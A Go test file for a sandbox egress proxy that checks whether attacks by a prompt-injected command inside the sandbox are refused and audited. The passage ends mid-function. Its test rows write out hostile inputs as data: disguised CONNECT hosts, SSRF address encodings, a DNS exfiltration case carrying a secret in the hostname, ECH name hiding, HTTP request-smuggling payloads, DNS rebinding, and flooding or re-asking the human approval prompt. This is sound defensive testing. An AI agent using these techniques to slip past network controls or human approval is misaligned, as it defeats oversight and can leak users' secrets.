package netproxy

import (
	"bufio"
	"context"
	"crypto/tls"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/netip"
	"strings"
	"sync"
	"testing"
	"time"
)

// The rows below are a second round of attacks on the proxy's policy, by
// what a prompt-injected command inside the sandbox can send it.

// TestAttack2HostForms: CONNECT authorities however spelled are judged
// as the host they name, and the audit names the host dialed.
func TestAttack2HostForms(t *testing.T) {
	f := newFixture(t, domains(t, append([]string{"allowed.test", "*.wild.test"}, loopback...), []string{"denied.test"}), false)
	p := f.tlsPort
	for _, tc := range []struct {
		target string
		ok     bool
		host   string // the audited host when ok
	}{
		{"ALLOWED.TEST:" + p, true, "allowed.test"},
		{"allowed.test.:" + p, true, "allowed.test"},
		{"AlLoWeD.TeSt.:" + p, true, "allowed.test"},
		{"allowed.test..:" + p, false, ""},
		{"%61llowed.test:" + p, false, ""},
		{"allowed%2etest:" + p, false, ""},
		{"denied.test@allowed.test:" + p, false, ""}, // Go's server: malformed Host
		{"allowed.test@denied.test:" + p, false, ""},
		{"xn--bcher-kva.test:" + p, false, ""}, // unlisted: strict refuses
		{"bücher.test:" + p, false, ""},
		{"b%C3%BCcher.test:" + p, false, ""},
		{"wild.test:" + p, false, ""},
		{"a.wild.test:" + p, true, "a.wild.test"},
		{"A.B.WILD.TEST.:" + p, true, "a.b.wild.test"},
		{"awild.test:" + p, false, ""},
		{"a.wild.test.evil:" + p, false, ""},
		{"evilallowed.test:" + p, false, ""},
		{"allowed.test.evil:" + p, false, ""},
		{"denied.test.:" + p, false, ""},
		{"DENIED.TEST:" + p, false, ""},
		{"http://allowed.test:" + p, false, ""},
		{"allowed.test", false, ""},
		{"allowed.test:", false, ""},
		{"allowed.test:0", false, ""},
		{"allowed.test:65536", false, ""},
		{"allowed.test:-1", false, ""},
		{"allowed.test:+" + p, false, ""},
		{"allowed.test:0" + p, true, "allowed.test"}, // leading zero: the same port
		{"allowed.test:" + p + ":" + p, false, ""},
		{"[allowed.test]:" + p, false, ""},
		{"allowed.test:" + p + "/x", false, ""},
		{"allowed.test\\@denied.test:" + p, false, ""},
	} {
		t.Run(tc.target, func(t *testing.T) {
			f.forget()
			c, status := connect(t, f, tc.target)
			if got := strings.Contains(status, " 200 "); got != tc.ok {
				t.Fatalf("CONNECT %s: %s, want ok=%v", tc.target, status, tc.ok)
			}
			if !tc.ok {
				return
			}
			tc2 := tls.Client(c, &tls.Config{ServerName: tc.host, RootCAs: f.ca.Pool, InsecureSkipVerify: true})
			c.SetDeadline(time.Now().Add(5 * time.Second))
			if err := tc2.Handshake(); err != nil {
				t.Fatalf("handshake: %v", err)
			}
			c.Close()
			r := f.record(t, tc.host, "connected")
			if r.Addr != "127.0.0.1:"+p {
				t.Errorf("record %+v", r)
			}
		})
	}
}

// TestAttack2AddressForms: addresses that lead to this machine or its
// networks through an embedding (6to4, IPv4-compatible, Teredo), a zone,
// a deprecated range or an IPv4 spelling that only some resolvers read
// are refused before anyone is asked, and nothing is resolved for them.
func TestAttack2AddressForms(t *testing.T) {
	f := newFixture(t, domains(t, nil, []string{"2001:db8::1", "2001:db8:1::/48", "203.0.113.7"}), true)
	// Whoever is asked says no, so that a row that fails dials nothing.
	f.answer = Answer{By: "person", Refusal: "guardrun: denied by user"}
	for _, tc := range []struct{ target, want string }{
		{"[fe80::1%25eth0]:443", "zone"},
		{"[::1%25lo]:443", "zone"},
		{"[2001:db8::1%25lo]:443", "zone"},
		{"[2001:db8:1::5%251]:443", "zone"},
		{"[2002:7f00:1::1]:443", "loopback (through 6to4)"},
		{"[2002:a00:1::]:443", "private (through 6to4)"},
		{"[2002:a9fe:a9fe::1]:80", "link-local (through 6to4)"},
		{"[::127.0.0.1]:443", "IPv4-compatible"},
		{"[::a00:1]:443", "IPv4-compatible"},
		{"[::8.8.8.8]:443", "IPv4-compatible"},
		{"[2001:0:4136:e378:8000:63bf:80ff:fffe]:443", "loopback (through Teredo)"},
		{"[2001:0:4136:e378:8000:63bf:f5ff:fffe]:443", "private (through Teredo)"},
		{"[fec0::1]:443", "site-local"},
		{"[2001:db8::1]:443", "deny"},
		{"[64:ff9b::cb00:7107]:443", "deny"},                   // 203.0.113.7 through NAT64
		{"[2002:cb00:7107::1]:443", "deny"},                    // through 6to4
		{"[2001:0:4136:e378:8000:63bf:34ff:8ef8]:443", "deny"}, // Teredo client
		{"[2001:0:cb00:7107:8000:63bf:f5ff:fffe]:443", "deny"}, // Teredo server
		{"2130706433:443", "IPv4"},
		{"0x7f.1:443", "IPv4"},
		{"127.1:443", "IPv4"},
		{"0:443", "IPv4"},
		{"0x7f000001:443", "IPv4"},
		{"10.0.0.1.:443", "private"},
		{"1.2.3.4.5:443", "IPv4"},
		{"foo.123:443", "IPv4"},
		{"foo.0x1f:443", "IPv4"},
	} {
		_, status := connect(t, f, tc.target)
		if !strings.Contains(status, " 403 ") && !strings.Contains(status, " 400 ") || !strings.Contains(status, tc.want) {
			t.Errorf("CONNECT %s: %s, want a refusal saying %q", tc.target, status, tc.want)
		}
	}
	f.mu.Lock()
	defer f.mu.Unlock()
	if len(f.asked) != 0 || len(f.lookedUp) != 0 {
		t.Errorf("asked about (%v) or resolved (%v) refused hosts", f.asked, f.lookedUp)
	}
}

// TestAttack2NoLookupBeforeApproval: a name that sandbox.domains does not
// list is not resolved until a person approved it: the resolver's query
// for "SECRET.attacker.example" would carry the secret out of the
// sandbox (to the attacker's name server) even when the connection is
// refused.
func TestAttack2NoLookupBeforeApproval(t *testing.T) {
	t.Run("strict", func(t *testing.T) {
		f := newFixture(t, domains(t, loopback, nil), false)
		_, status := connect(t, f, "s3cr3t.exfil.test:443")
		if !strings.Contains(status, " 403 ") {
			t.Errorf("CONNECT: %s", status)
		}
		_, err := f.get(t, "http://s3cr3t2.exfil.test:"+f.httpPort+"/")
		if err == nil || !strings.Contains(err.Error(), "403") {
			t.Errorf("plain: %v", err)
		}
		f.mu.Lock()
		defer f.mu.Unlock()
		if len(f.lookedUp) != 0 {
			t.Errorf("strict mode resolved unlisted names: %v", f.lookedUp)
		}
	})
	t.Run("person says no", func(t *testing.T) {
		f := newFixture(t, domains(t, loopback, nil), true)
		f.answer = Answer{By: "person", Refusal: "guardrun: denied by user"}
		_, status := connect(t, f, "s3cr3t.exfil.test:443")
		if !strings.Contains(status, " 403 ") {
			t.Errorf("CONNECT: %s", status)
		}
		f.mu.Lock()
		defer f.mu.Unlock()
		if len(f.asked) != 1 || len(f.lookedUp) != 0 {
			t.Errorf("asked %v, resolved %v: want one question and no lookup", f.asked, f.lookedUp)
		}
	})
	t.Run("person says yes", func(t *testing.T) {
		f := newFixture(t, domains(t, loopback, nil), true)
		body, err := f.get(t, "https://unlisted.test:"+f.tlsPort+"/y")
		if err != nil || !strings.Contains(body, "/y") {
			t.Fatalf("%q %v", body, err)
		}
		f.mu.Lock()
		defer f.mu.Unlock()
		if fmt.Sprint(f.lookedUp) != "[unlisted.test]" {
			t.Errorf("resolved %v", f.lookedUp)
		}
	})
	t.Run("approved name resolves to loopback", func(t *testing.T) {
		f := newFixture(t, domains(t, nil, nil), true)
		_, status := connect(t, f, "loop.test:"+f.tlsPort)
		if !strings.Contains(status, " 403 ") || !strings.Contains(status, "loopback") {
			t.Errorf("CONNECT: %s", status)
		}
		r := f.record(t, "loop.test", "refused")
		if r.Verdict != "block" {
			t.Errorf("record %+v", r)
		}
	})
}

// TestAttack2ECH: a ClientHello that carries an Encrypted Client Hello
// names the CONNECT host only on the outside; the front end that
// decrypts it serves the inner name, any site behind it. It is refused
// and the host gets none of its bytes.
func TestAttack2ECH(t *testing.T) {
	f := newFixture(t, domains(t, append([]string{"allowed.test"}, loopback...), nil), false)
	port, got := countingUpstream(t, 0)
	c, status := connect(t, f, "allowed.test:"+port)
	if !strings.Contains(status, " 200 ") {
		t.Fatalf("CONNECT: %s", status)
	}
	cfg := &tls.Config{
		ServerName:                     "other.test", // the inner, hidden name
		EncryptedClientHelloConfigList: echConfigList("allowed.test"),
		MinVersion:                     tls.VersionTLS13,
		RootCAs:                        f.ca.Pool,
	}
	c.SetDeadline(time.Now().Add(5 * time.Second))
	tls.Client(c, cfg).Handshake()
	c.Close()
	r := f.record(t, "allowed.test", "refused")
	if !strings.Contains(r.Reason, "Encrypted Client Hello") {
		t.Errorf("record %+v", r)
	}
	if n := <-got; n > 0 {
		t.Errorf("the host got %d bytes of the hello", n)
	}
}

// countingUpstream is a host on loopback that takes one connection,
// reads it to its end (for 5 seconds at most), sends on the channel the
// bytes it got (-1 if nobody connected), then writes reply bytes back.
// It returns its port.
func countingUpstream(t *testing.T, reply int) (string, <-chan int64) {
	t.Helper()
	up, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { up.Close() })
	got := make(chan int64, 1)
	go func() {
		c, err := up.Accept()
		if err != nil {
			got <- -1
			return
		}
		defer c.Close()
		c.SetReadDeadline(time.Now().Add(5 * time.Second))
		n, _ := io.Copy(io.Discard, c)
		got <- n
		if reply > 0 {
			c.Write(make([]byte, reply))
		}
	}()
	_, port, _ := net.SplitHostPort(up.Addr().String())
	return port, got
}

// echConfigList is an ECHConfigList (draft-ietf-tls-esni) with one
// X25519/HKDF-SHA256/AES-128-GCM config whose public (outer) name is
// publicName; the key is made up, which the client cannot tell.
func echConfigList(publicName string) []byte {
	var c []byte
	c = append(c, 7)          // config_id
	c = append(c, 0x00, 0x20) // DHKEM(X25519, HKDF-SHA256)
	c = append(c, 0, 32)
	for i := range 32 {
		c = append(c, byte(9+i))
	}
	c = append(c, 0, 4, 0x00, 0x01, 0x00, 0x01) // HKDF-SHA256, AES-128-GCM
	c = append(c, 0)                            // maximum_name_length
	c = append(c, byte(len(publicName)))
	c = append(c, publicName...)
	c = append(c, 0, 0) // no extensions
	cfg := append([]byte{0xfe, 0x0d, byte(len(c) >> 8), byte(len(c))}, c...)
	return append([]byte{byte(len(cfg) >> 8), byte(len(cfg))}, cfg...)
}

// TestAttack2SplitHello: a ClientHello trickled one byte per write, or
// so large (50 kB of ALPN names) that it spans several TLS records, is
// still read whole and judged; a mismatched name is refused, the right
// one passes.
func TestAttack2SplitHello(t *testing.T) {
	f := newFixture(t, domains(t, append([]string{"allowed.test"}, loopback...), nil), false)
	var alpn []string
	for i := range 200 {
		alpn = append(alpn, fmt.Sprintf("%03d%s", i, strings.Repeat("p", 240)))
	}
	alpn = append(alpn, "http/1.1")
	for _, tc := range []struct {
		sni   string
		large bool
		ok    bool
	}{{"other.test", false, false}, {"allowed.test", false, true}, {"other.test", true, false}, {"allowed.test", true, true}} {
		c, status := connect(t, f, "allowed.test:"+f.tlsPort)
		if !strings.Contains(status, " 200 ") {
			t.Fatalf("CONNECT: %s", status)
		}
		c.SetDeadline(time.Now().Add(10 * time.Second))
		cfg := &tls.Config{ServerName: tc.sni, RootCAs: f.ca.Pool, InsecureSkipVerify: true}
		var conn net.Conn = trickle{c}
		if tc.large {
			cfg.NextProtos, conn = alpn, c
		}
		if err := tls.Client(conn, cfg).Handshake(); (err == nil) != tc.ok {
			t.Errorf("SNI %s, large %v: handshake %v, want ok=%v", tc.sni, tc.large, err, tc.ok)
		}
		c.Close()
	}
}

// trickle writes one byte at a time.
type trickle struct{ net.Conn }

func (t trickle) Write(b []byte) (int, error) {
	for i := range b {
		if _, err := t.Conn.Write(b[i : i+1]); err != nil {
			return i, err
		}
	}
	return len(b), nil
}

// TestAttack2Plain: plain HTTP requests that try to name one host and
// reach another, smuggle a second request, or switch protocols.
func TestAttack2Plain(t *testing.T) {
	f := newFixture(t, domains(t, append([]string{"allowed.test"}, loopback...), []string{"denied.test"}), false)
	hp := f.httpPort
	for _, tc := range []struct {
		name, req string
		status    int
	}{
		{"userinfo names the allowed host", "GET http://allowed.test@denied.test:%[1]s/ HTTP/1.1\r\nHost: allowed.test\r\nConnection: close\r\n\r\n", 403},
		{"ftp scheme", "GET ftp://allowed.test:%[1]s/ HTTP/1.1\r\nHost: allowed.test\r\nConnection: close\r\n\r\n", 400},
		{"https scheme in plain form", "GET https://allowed.test:%[1]s/ HTTP/1.1\r\nHost: allowed.test\r\nConnection: close\r\n\r\n", 400},
		{"HTTP/1.0", "GET http://allowed.test:%[1]s/ HTTP/1.0\r\n\r\n", 200},
		{"HTTP/1.0 to denied", "GET http://denied.test:%[1]s/ HTTP/1.0\r\nHost: allowed.test\r\n\r\n", 403},
		{"percent-encoded host", "GET http://%%64enied.test:%[1]s/ HTTP/1.1\r\nHost: allowed.test\r\nConnection: close\r\n\r\n", 400},
		{"zone in the URL (a denied address)", "GET http://[2001:db8::1%%25lo]:%[1]s/ HTTP/1.1\r\nHost: allowed.test\r\nConnection: close\r\n\r\n", 400},
		{"zone in the URL", "GET http://[fe80::1%%25eth0]:%[1]s/ HTTP/1.1\r\nHost: allowed.test\r\nConnection: close\r\n\r\n", 400},
		{"Expect 100-continue to denied", "POST http://denied.test:%[1]s/ HTTP/1.1\r\nHost: denied.test\r\nContent-Length: 3\r\nExpect: 100-continue\r\nConnection: close\r\n\r\n", 403},
		{"absolute path with a denied Host", "GET / HTTP/1.1\r\nHost: denied.test:%[1]s\r\nConnection: close\r\n\r\n", 400},
		{"HTTP/2 prior knowledge", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", 400},
		{"CONNECT with an absolute URI", "CONNECT http://denied.test:%[1]s/ HTTP/1.1\r\nHost: allowed.test:%[1]s\r\n\r\n", 400},
		{"CONNECT origin form names the host in Host", "CONNECT / HTTP/1.1\r\nHost: denied.test:%[1]s\r\n\r\n", 403},
		{"smuggling: chunked and Content-Length",
			"POST http://allowed.test:%[1]s/ HTTP/1.1\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n0\r\n\r\nGET http://denied.test:%[1]s/ HTTP/1.1\r\nHost: denied.test\r\n\r\n", 400},
		{"smuggling: two Content-Lengths",
			"POST http://allowed.test:%[1]s/ HTTP/1.1\r\nContent-Length: 0\r\nContent-Length: 60\r\nConnection: close\r\n\r\nGET http://denied.test:%[1]s/ HTTP/1.1\r\nHost: denied.test\r\n\r\n", 400},
	} {
		t.Run(tc.name, func(t *testing.T) {
			c, err := net.Dial("tcp", f.proxyURL.Host)
			if err != nil {
				t.Fatal(err)
			}
			defer c.Close()
			c.SetDeadline(time.Now().Add(10 * time.Second))
			fmt.Fprintf(c, tc.req, hp)
			br := bufio.NewReader(c)
			resp, err := http.ReadResponse(br, nil)
			if err != nil {
				t.Fatal(err)
			}
			b, _ := io.ReadAll(resp.Body)
			if resp.StatusCode != tc.status {
				t.Errorf("%d %q, want %d", resp.StatusCode, b, tc.status)
			}
			// A second response would be a smuggled request's.
			c.SetReadDeadline(time.Now().Add(500 * time.Millisecond))
			rest, _ := io.ReadAll(br)
			if strings.Contains(string(b)+string(rest), "page for denied.test") {
				t.Errorf("a request reached the server as denied.test: %q %q", b, rest)
			}
		})
	}
	f.mu.Lock()
	defer f.mu.Unlock()
	for _, r := range f.records {
		if r.Host == "denied.test" && r.Outcome == "connected" {
			t.Errorf("record %+v", r)
		}
	}
}

// TestAttack2KeepAliveConnect: after a plain request to an allowed host,
// a CONNECT to a denied one on the same client connection is judged on
// its own and refused.
func TestAttack2KeepAliveConnect(t *testing.T) {
	f := newFixture(t, domains(t, append([]string{"allowed.test"}, loopback...), []string{"denied.test"}), false)
	got := pipelined(t, f, fmt.Sprintf("GET http://allowed.test:%s/1 HTTP/1.1\r\nHost: allowed.test\r\n\r\nCONNECT denied.test:%s HTTP/1.1\r\nHost: allowed.test:%s\r\n\r\n", f.httpPort, f.tlsPort, f.tlsPort),
		http.MethodGet, http.MethodConnect)
	if got[0] != 200 || got[1] != 403 {
		t.Errorf("statuses %v, want [200 403]", got)
	}
	f.record(t, "denied.test", "refused")
}

// TestAttack2ApprovalScope: a person's yes for host:port is not a yes for
// another port, nor for another name on the same address; the same name
// spelled otherwise is the same host.
func TestAttack2ApprovalScope(t *testing.T) {
	f := newFixture(t, domains(t, loopback, nil), true)
	for _, u := range []string{
		"https://unlisted.test:" + f.tlsPort + "/",
		"https://UNLISTED.test.:" + f.tlsPort + "/",
		"http://unlisted.test:" + f.httpPort + "/",
		"https://other.test:" + f.tlsPort + "/",
	} {
		if _, err := f.get(t, u); err != nil {
			t.Fatalf("%s: %v", u, err)
		}
	}
	want := []string{"unlisted.test:" + f.tlsPort, "unlisted.test:" + f.httpPort, "other.test:" + f.tlsPort}
	f.mu.Lock()
	defer f.mu.Unlock()
	if fmt.Sprint(f.asked) != fmt.Sprint(want) {
		t.Errorf("asked %v, want %v", f.asked, want)
	}
}

// TestAttack2AskStorm: a command that CONNECTs to many unlisted hosts at
// once does not queue a question for each: past a bound, the rest are
// refused at once, and the person is asked about a few only.
func TestAttack2AskStorm(t *testing.T) {
	old := maxPendingAsks
	maxPendingAsks = 4
	defer func() { maxPendingAsks = old }()
	f := newFixture(t, domains(t, loopback, nil), true)
	f.askDelay = time.Hour
	f.proxy.AskTimeout = 20 * time.Second
	const n = 12
	var wg sync.WaitGroup
	quick := make(chan string, n)
	for i := range n {
		wg.Add(1)
		go func() {
			defer wg.Done()
			c, err := net.Dial("tcp", f.proxyURL.Host)
			if err != nil {
				return
			}
			defer c.Close()
			c.SetDeadline(time.Now().Add(3 * time.Second))
			fmt.Fprintf(c, "CONNECT h%d.unlisted.test:443 HTTP/1.1\r\n\r\n", i)
			line, err := bufio.NewReader(c).ReadString('\n')
			if err == nil {
				quick <- line
			}
		}()
	}
	wg.Wait()
	close(quick)
	refused := 0
	for l := range quick {
		if strings.Contains(l, " 403 ") && strings.Contains(l, "waiting") {
			refused++
		}
	}
	if refused < n-4 {
		t.Errorf("%d of %d CONNECTs refused at once, want at least %d", refused, n, n-4)
	}
	f.mu.Lock()
	asked := len(f.asked)
	f.mu.Unlock()
	if asked > 4 {
		t.Errorf("asked %d times", asked)
	}
}

// TestAttack2IdleConnection: a client connection left idle after a
// request is closed by the proxy after a while, so that idle connections
// cannot pile up in the proxy.
func TestAttack2IdleConnection(t *testing.T) {
	old := idleTimeout
	idleTimeout = 300 * time.Millisecond
	defer func() { idleTimeout = old }()
	f := newFixture(t, domains(t, loopback, nil), false)
	c, err := net.Dial("tcp", f.proxyURL.Host)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	fmt.Fprintf(c, "GET /x HTTP/1.1\r\nHost: a\r\n\r\n")
	br := bufio.NewReader(c)
	resp, err := http.ReadResponse(br, nil)
	if err != nil {
		t.Fatal(err)
	}
	io.Copy(io.Discard, resp.Body)
	if resp.Close {
		t.Fatalf("the proxy closed the connection itself; the test needs one kept alive")
	}
	c.SetReadDeadline(time.Now().Add(5 * time.Second))
	if _, err := br.ReadByte(); err != io.EOF {
		t.Errorf("idle connection: %v, want the proxy to close it", err)
	}
}

// TestAttack2HeaderFlood: a header block that never ends is cut off.
func TestAttack2HeaderFlood(t *testing.T) {
	f := newFixture(t, domains(t, loopback, nil), false)
	c, err := net.Dial("tcp", f.proxyURL.Host)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	c.SetDeadline(time.Now().Add(10 * time.Second))
	go func() {
		fmt.Fprintf(c, "CONNECT allowed.test:443 HTTP/1.1\r\n")
		line := "X-A: " + strings.Repeat("a", 1000) + "\r\n"
		for range 4000 {
			if _, err := io.WriteString(c, line); err != nil {
				return
			}
		}
	}()
	resp, err := http.ReadResponse(bufio.NewReader(c), nil)
	if err == nil && resp.StatusCode < 400 {
		t.Errorf("status %d", resp.StatusCode)
	}
}

// TestAttack2Upgrade: a plain request that switches protocols (a
// websocket, ws://) would become a two-way stream the plain path does
// not count: the proxy does not carry it (502, audited as failed); were
// it ever to, the audit must count the stream's bytes.
func TestAttack2Upgrade(t *testing.T) {
	f := newFixture(t, domains(t, append([]string{"allowed.test"}, loopback...), nil), false)
	up, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer up.Close()
	go func() {
		c, err := up.Accept()
		if err != nil {
			return
		}
		defer c.Close()
		br := bufio.NewReader(c)
		if _, err := http.ReadRequest(br); err != nil {
			return
		}
		io.WriteString(c, "HTTP/1.1 101 Switching Protocols\r\nUpgrade: echo\r\nConnection: Upgrade\r\n\r\n")
		io.Copy(c, br)
	}()
	_, port, _ := net.SplitHostPort(up.Addr().String())
	c, err := net.Dial("tcp", f.proxyURL.Host)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	c.SetDeadline(time.Now().Add(10 * time.Second))
	fmt.Fprintf(c, "GET http://allowed.test:%s/ws HTTP/1.1\r\nHost: allowed.test\r\nUpgrade: echo\r\nConnection: Upgrade\r\n\r\n", port)
	br := bufio.NewReader(c)
	resp, err := http.ReadResponse(br, nil)
	if err != nil {
		t.Fatal(err)
	}
	if resp.StatusCode != http.StatusSwitchingProtocols {
		if resp.StatusCode != http.StatusBadGateway {
			t.Errorf("status %d, want 101 or 502", resp.StatusCode)
		}
		f.record(t, "allowed.test", "failed")
		return
	}
	payload := strings.Repeat("x", 100000)
	go io.WriteString(c, payload)
	got := make([]byte, len(payload))
	if _, err := io.ReadFull(br, got); err != nil {
		t.Fatal(err)
	}
	c.(*net.TCPConn).CloseWrite()
	io.Copy(io.Discard, br)
	c.Close()
	r := f.record(t, "allowed.test", "connected")
	if r.BytesOut < int64(len(payload)) || r.BytesIn < int64(len(payload)) {
		t.Errorf("record %+v: the audit missed the upgraded stream's bytes", r)
	}
}

// TestAttack2RefusalsDoNotPileUp: every refused CONNECT, and every tunnel
// once closed, is forgotten by the proxy, so that a loop of refused
// requests does not grow the proxy's memory for the rest of a session.
func TestAttack2RefusalsDoNotPileUp(t *testing.T) {
	f := newFixture(t, domains(t, append([]string{"allowed.test"}, loopback...), []string{"denied.test"}), false)
	cl := &Client{}
	own := serveClient(t, f, cl)
	for _, addr := range []string{f.proxyURL.Host, own} {
		for i := range 60 {
			c, err := net.Dial("tcp", addr)
			if err != nil {
				t.Fatal(err)
			}
			target := "denied.test:443"
			if i%10 == 0 {
				target = "allowed.test:" + f.httpPort // a tunnel, closed at once
			}
			fmt.Fprintf(c, "CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n", target, target)
			c.SetDeadline(time.Now().Add(5 * time.Second))
			bufio.NewReader(c).ReadString('\n')
			c.Close()
		}
	}
	deadline := time.Now().Add(5 * time.Second)
	for {
		f.proxy.mu.Lock()
		n := len(f.proxy.conns)
		f.proxy.mu.Unlock()
		cl.mu.Lock()
		m := len(cl.conns)
		cl.mu.Unlock()
		if n == 0 && m == 0 {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("after 120 closed connections the proxy still holds %d (client %d)", n, m)
		}
		time.Sleep(20 * time.Millisecond)
	}
}

// serveClient registers cl with the fixture's proxy and serves it on a
// listener of its own, as a command's proxy address; it returns that
// address.
func serveClient(t *testing.T, f *fixture, cl *Client) string {
	t.Helper()
	if _, err := f.proxy.Register(cl); err != nil {
		t.Fatal(err)
	}
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	go f.proxy.ServeClient(l, cl)
	return l.Addr().String()
}

// TestAttack2DNSAnswers: a name whose answer mixes addresses is dialed
// only at the ones that passed the check, and it is resolved once per
// connection, so that a second answer cannot differ from the checked
// one.
func TestAttack2DNSAnswers(t *testing.T) {
	f := newFixture(t, domains(t, []string{"*.dns.test", "127.0.0.1"}, []string{"127.0.0.2"}), false)
	var mu sync.Mutex
	lookups := map[string]int{}
	answers := map[string][]string{
		"mixed.dns.test":     {"192.168.1.1", "10.0.0.1", "127.0.0.1"},
		"deny.dns.test":      {"127.0.0.2", "127.0.0.1"},
		"zero.dns.test":      {"0.0.0.0"},
		"six.dns.test":       {"::"},
		"mapped.dns.test":    {"::ffff:10.0.0.1"},
		"private.dns.test":   {"192.168.1.1", "fd00::1"},
		"rebind.dns.test":    {"127.0.0.1"}, // then loopback elsewhere, see below
		"sixtofour.dns.test": {"2002:a00:1::1"},
	}
	f.proxy.LookupNetIP = func(_ context.Context, host string) ([]netip.Addr, error) {
		mu.Lock()
		defer mu.Unlock()
		lookups[host]++
		if host == "rebind.dns.test" && lookups[host] > 1 {
			return []netip.Addr{netip.MustParseAddr("127.0.0.2")}, nil
		}
		var out []netip.Addr
		for _, a := range answers[host] {
			out = append(out, netip.MustParseAddr(a))
		}
		if out == nil {
			return nil, fmt.Errorf("no such host %s", host)
		}
		return out, nil
	}
	for _, tc := range []struct {
		host string
		ok   bool
	}{
		{"mixed.dns.test", true},
		{"deny.dns.test", true},
		{"zero.dns.test", false},
		{"six.dns.test", false},
		{"mapped.dns.test", false},
		{"private.dns.test", false},
		{"sixtofour.dns.test", false},
	} {
		c, status := connect(t, f, tc.host+":"+f.tlsPort)
		if strings.Contains(status, " 200 ") != tc.ok {
			t.Errorf("CONNECT %s: %s, want ok=%v", tc.host, status, tc.ok)
		}
		c.Close()
		if tc.ok {
			r := f.record(t, tc.host, "failed") // no ClientHello: only the dial matters
			if r.Addr != "127.0.0.1:"+f.tlsPort {
				t.Errorf("%s: dialed %s", tc.host, r.Addr)
			}
		}
	}
	body, err := f.get(t, "http://rebind.dns.test:"+f.httpPort+"/r")
	if err != nil || !strings.Contains(body, "/r") {
		t.Errorf("plain: %q %v", body, err)
	}
	r := f.record(t, "rebind.dns.test", "connected")
	mu.Lock()
	n := lookups["rebind.dns.test"]
	mu.Unlock()
	if n != 1 || r.Addr != "127.0.0.1:"+f.httpPort {
		t.Errorf("resolved %d times, dialed %s", n, r.Addr)
	}
}

// TestAttack2ConnectionFlood: connections opened and left silent are
// bounded: past the bound new ones are closed at once, and once they end
// the proxy serves again.
func TestAttack2ConnectionFlood(t *testing.T) {
	old := maxConns
	maxConns = 10
	defer func() { maxConns = old }()
	f := newFixture(t, domains(t, append([]string{"allowed.test"}, loopback...), nil), false)
	var conns []net.Conn
	for range 30 {
		c, err := net.Dial("tcp", f.proxyURL.Host)
		if err != nil {
			t.Fatal(err)
		}
		conns = append(conns, c)
	}
	closed := 0
	for _, c := range conns {
		c.SetReadDeadline(time.Now().Add(300 * time.Millisecond))
		if _, err := c.Read(make([]byte, 1)); err == io.EOF {
			closed++
		}
	}
	if closed < 15 {
		t.Errorf("%d of 30 silent connections were closed, want at least 15", closed)
	}
	for _, c := range conns {
		c.Close()
	}
	time.Sleep(100 * time.Millisecond)
	if body, err := f.get(t, "http://allowed.test:"+f.httpPort+"/after"); err != nil || !strings.Contains(body, "/after") {
		t.Errorf("after the flood: %q %v", body, err)
	}
}

// TestAttack2AuditBytes: the audit counts every byte of a tunnel, those
// the client sent with its CONNECT (before the proxy's answer) too, and
// names the host and address dialed.
func TestAttack2AuditBytes(t *testing.T) {
	f := newFixture(t, domains(t, append([]string{"allowed.test"}, loopback...), nil), false)
	port, seen := countingUpstream(t, 12345)
	c, err := net.Dial("tcp", f.proxyURL.Host)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	c.SetDeadline(time.Now().Add(10 * time.Second))
	early := strings.Repeat("a", 1000)
	fmt.Fprintf(c, "CONNECT allowed.test:%s HTTP/1.1\r\nHost: allowed.test:%s\r\n\r\n%s", port, port, early)
	br := bufio.NewReader(c)
	resp, err := http.ReadResponse(br, &http.Request{Method: http.MethodConnect})
	if err != nil || resp.StatusCode != 200 {
		t.Fatalf("CONNECT: %v %v", resp, err)
	}
	io.WriteString(c, strings.Repeat("b", 5000))
	c.(*net.TCPConn).CloseWrite()
	back, _ := io.Copy(io.Discard, br)
	if n := <-seen; n != 6000 || back != 12345 {
		t.Fatalf("the host got %d bytes (want 6000), the client %d (want 12345)", n, back)
	}
	r := f.record(t, "allowed.test", "connected")
	if r.BytesOut != 6000 || r.BytesIn != 12345 || r.Addr != "127.0.0.1:"+port {
		t.Errorf("record %+v: want 6000 bytes out, 12345 in, to 127.0.0.1:%s", r, port)
	}
}

// TestAttack2NoAfterNo: after a person refused a host, the command's
// further connections to it are refused without asking again, so that a
// command cannot ask until it hears yes; another port still asks.
func TestAttack2NoAfterNo(t *testing.T) {
	f := newFixture(t, domains(t, loopback, nil), true)
	f.answer = Answer{By: "person", Note: "no", Refusal: "guardrun: denied by user: no"}
	for range 3 {
		_, status := connect(t, f, "unlisted.test:"+f.tlsPort)
		if !strings.Contains(status, " 403 guardrun: denied by user: no") {
			t.Errorf("CONNECT: %s", status)
		}
	}
	connect(t, f, "unlisted.test:"+f.httpPort)
	want := []string{"unlisted.test:" + f.tlsPort, "unlisted.test:" + f.httpPort}
	f.mu.Lock()
	defer f.mu.Unlock()
	if fmt.Sprint(f.asked) != fmt.Sprint(want) {
		t.Errorf("asked %v, want %v", f.asked, want)
	}
}

// TestAttack2QuestionWithdrawn: when a command ends (its client is
// closed) or the proxy closes, a question still waiting for the person is
// withdrawn at once, not left on the terminal for a command that is gone
// (where an `s` would still grant the host to the session).
func TestAttack2QuestionWithdrawn(t *testing.T) {
	f := newFixture(t, domains(t, loopback, nil), false)
	f.proxy.AskTimeout = 20 * time.Second
	for _, closeProxy := range []bool{false, true} {
		asked, withdrawn := make(chan struct{}), make(chan struct{})
		cl := &Client{Ask: func(ctx context.Context, q Query) Answer {
			close(asked)
			<-ctx.Done()
			close(withdrawn)
			return Answer{By: "mode"}
		}}
		addr := serveClient(t, f, cl)
		c, err := net.Dial("tcp", addr)
		if err != nil {
			t.Fatal(err)
		}
		defer c.Close()
		fmt.Fprintf(c, "CONNECT unlisted.test:443 HTTP/1.1\r\nHost: unlisted.test:443\r\n\r\n")
		select {
		case <-asked:
		case <-time.After(5 * time.Second):
			t.Fatal("never asked")
		}
		if closeProxy {
			f.proxy.Close()
		} else {
			cl.Close()
		}
		select {
